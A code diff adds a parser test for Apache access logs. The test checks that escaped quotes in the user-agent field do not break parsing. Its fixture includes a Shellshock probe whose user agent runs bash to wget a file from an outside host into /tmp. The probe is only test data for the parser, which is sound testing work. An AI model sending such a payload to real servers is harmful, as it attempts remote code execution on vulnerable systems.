@@ -151,3 +151,14 @@ def test_real_public_access_log_parses_completely(datasets, tmp_path) -> None:
     assert first["ts"] == dt.datetime(2015, 5, 17, 10, 5, 3, tzinfo=UTC)
     assert first["raw"] == text.split("\n", 1)[0]
     assert first["file"] == str(path)
+
+
+def test_apache_escaped_quotes_before_spaces_do_not_lose_the_chunk() -> None:
+    """Apache writes a quote inside a field as \\" ; with spaces after it the CSV reader sees an extra column.
+    The chunk must not fail: every line still parses (a Shellshock probe keeps its whole user agent)."""
+    shellshock = ('198.51.100.4 - - [23/Nov/2026:10:00:00 +0800] "GET /cgi-bin/status HTTP/1.1" 404 512 "-" '
+                  '"() { :; }; /bin/bash -c \\"wget http://203.0.113.5/b -O /tmp/b\\""')
+    normal = '198.51.100.5 - - [23/Nov/2026:10:00:01 +0800] "GET / HTTP/1.1" 200 5120 "-" "Mozilla/5.0"'
+    rows = parse_lines("combined", [shellshock, normal, shellshock, normal])
+    assert [r["http_status"] for r in rows] == [404, 200, 404, 200]
+    assert rows[2]["user_agent"] == '() { :; }; /bin/bash -c \\"wget http://203.0.113.5/b -O /tmp/b\\"'
